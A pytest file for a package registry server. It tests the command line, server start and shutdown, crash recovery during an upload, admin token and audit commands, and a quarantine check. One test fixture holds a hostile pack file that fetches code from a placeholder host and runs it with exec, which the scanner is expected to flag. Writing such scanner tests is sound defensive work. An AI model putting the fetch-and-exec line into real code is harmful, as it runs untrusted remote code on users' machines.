"""The command line, and the server as a process of its own."""

from __future__ import annotations

import json
import signal
import socket
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import pytest
from typer.testing import CliRunner

from registry_server.cli import app
from registry_server.errors import Conflict, NotFound
from registry_server.settings import Settings
from tests.support.registry import announcement, bearer, registry
from tests.support.registry_packs import pack

START = "from registry_server.cli import app; app()"


@contextmanager
def running(data: Path, *arguments: str) -> Iterator[tuple[str, subprocess.Popen[str]]]:
    """A server of its own on a free port: its address, and its process."""
    command = [sys.executable, "-c", START, "serve", "--data", str(data), "--port", "0", *arguments]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as process:
        assert process.stdout is not None
        try:
            line = process.stdout.readline()
            assert line.startswith("registry ready: http://"), line
            yield line.split()[-1], process
        finally:
            process.kill()


def call(data: Path, *arguments: str) -> str:
    """Run a command that ends well; what it prints."""
    done = CliRunner().invoke(app, [*arguments, "--data", str(data)], catch_exceptions=False)
    assert done.exit_code == 0, done.output
    return done.stdout


@pytest.fixture
def token(tmp_path: Path) -> str:
    """A publisher's token, made on an empty folder."""
    call(tmp_path, "admin", "publisher", "create", "acme", "--name", "Acme")
    made = call(
        tmp_path, "admin", "token", "create", "--publisher", "acme", "--scope", "publish:pack", "--expires", "90d"
    )
    return made.strip()


@pytest.mark.e2e
def test_an_empty_folder_becomes_a_registry_that_ends_when_asked(tmp_path: Path, token: str) -> None:
    with running(tmp_path, "--log-format", "json") as (address, process):
        body = announcement("probe-pack", "1.0.0", token)
        announced = httpx.post(f"{address}/publishers/acme/nodes/probe-pack/versions", json=body)
        assert announced.status_code == 201
        signed = announced.json()["signedUrl"]
        assert signed.startswith(address)
        assert httpx.put(signed, content=pack(), timeout=60).status_code == 200
        node = httpx.get(f"{address}/nodes/probe-pack/install").json()
        assert httpx.get(node["downloadUrl"]).content == pack()
        assert httpx.get(f"{address}/index/config.json").json()["api"] == address
        process.send_signal(signal.SIGTERM)
        assert process.wait(30) == 0


@pytest.mark.e2e
def test_a_server_that_is_killed_in_mid_upload_leaves_nothing_visible(tmp_path: Path, token: str) -> None:
    archive = pack(files={"big.bin": bytes(range(256)) * 4096})
    with running(tmp_path) as (address, process):
        parts = urlsplit(address)
        with socket.create_connection((parts.hostname or "", parts.port or 0)) as connection:
            head = f"POST /api/v1/packs/upload HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\n"
            connection.sendall(f"{head}Content-Length: {len(archive)}\r\n\r\n".encode() + archive[: len(archive) // 2])
            httpx.get(f"{address}/healthz")
            process.kill()
            process.wait(30)
    with running(tmp_path) as (address, _):
        assert httpx.get(f"{address}/nodes").json()["total"] == 0
        again = httpx.post(f"{address}/api/v1/packs/upload", content=archive, headers=bearer(token), timeout=60)
        assert again.status_code == 201
    assert call(tmp_path, "admin", "verify").startswith("1 archives are right, 0 faults")


def test_the_operator_decides_and_can_look_it_up(tmp_path: Path, token: str) -> None:
    assert token.startswith("cnr_")
    listed = json.loads(call(tmp_path, "admin", "token", "list", "--json"))
    assert listed[0]["of"] == "acme"
    call(tmp_path, "admin", "user", "create", "alice")
    call(tmp_path, "admin", "publisher", "member", "acme", "alice", "--role", "owner")
    call(tmp_path, "admin", "token", "revoke", listed[0]["id"])
    assert json.loads(call(tmp_path, "admin", "token", "list", "--json")) == []
    actions = [json.loads(line)["action"] for line in call(tmp_path, "admin", "audit", "--json").splitlines()]
    assert actions == ["token.revoke", "publisher.member", "user.create", "token.create", "publisher.create"]
    secret = call(tmp_path, "admin", "webhook", "add", "https://example.com/hook").strip()
    assert len(secret) > 30
    call(tmp_path, "admin", "webhook", "remove", "1")
    assert call(tmp_path, "admin", "node", "show", "KSampler").startswith("KSampler is owned by core")
    where = ("--publisher", "acme", "--issuer", "https://ci.example", "--repository", "acme/x", "--workflow", "p.yml")
    call(tmp_path, "admin", "trusted", "add", "to-come", *where)
    [workflow] = json.loads(call(tmp_path, "admin", "trusted", "list", "--json"))
    assert (workflow["pack"], workflow["pending"]) == ("to-come", True)
    assert "the pack is to come" in call(tmp_path, "admin", "trusted", "list", "--publisher", "acme")
    call(tmp_path, "admin", "trusted", "remove", str(workflow["number"]))
    assert json.loads(call(tmp_path, "admin", "trusted", "list", "--json")) == []
    exported = tmp_path / "www"
    assert "0 packs" in call(tmp_path, "export", str(exported))
    assert (exported / "index" / "config.json").exists()
    assert "saved" in call(tmp_path, "admin", "backup", str(tmp_path / "saved.tar"))


def test_what_waits_for_a_decision_is_listed_until_it_is_decided(tmp_path: Path) -> None:
    with registry(Settings(data=tmp_path)) as server:
        evil = {"fetch.py": "import requests\nexec(requests.get('https://x.io').text)"}
        server.publish("fine-pack", nodes=["Fine"])
        server.publish("evil-pack", nodes=["Evil"], files=evil)
    [row] = json.loads(call(tmp_path, "admin", "release", "list", "--json"))
    assert (row["pack"], row["version"], row["state"]) == ("evil-pack", "1.0.0", "quarantined")
    assert "fetch.py:2" in row["reason"]
    assert "docs/checks.md" in row["reason"]
    call(tmp_path, "admin", "release", "state", "evil-pack", "1.0.0", "active", "--reason", "false alarm")
    assert json.loads(call(tmp_path, "admin", "release", "list", "--json")) == []
    assert "fine-pack" in call(tmp_path, "admin", "release", "list", "--state", "active")
    decided = call(tmp_path, "admin", "audit", "--json", "--subject", "pack/evil-pack", "--actor", "operator")
    assert json.loads(decided)["details"]["reason"] == "false alarm"


def test_what_goes_wrong_is_an_error_of_ours(tmp_path: Path, token: str) -> None:
    with pytest.raises(Conflict, match="already"):
        call(tmp_path, "admin", "publisher", "create", "ACME")
    with pytest.raises(NotFound, match="no-such-pack"):
        call(tmp_path, "admin", "pack", "status", "no-such-pack", "banned")
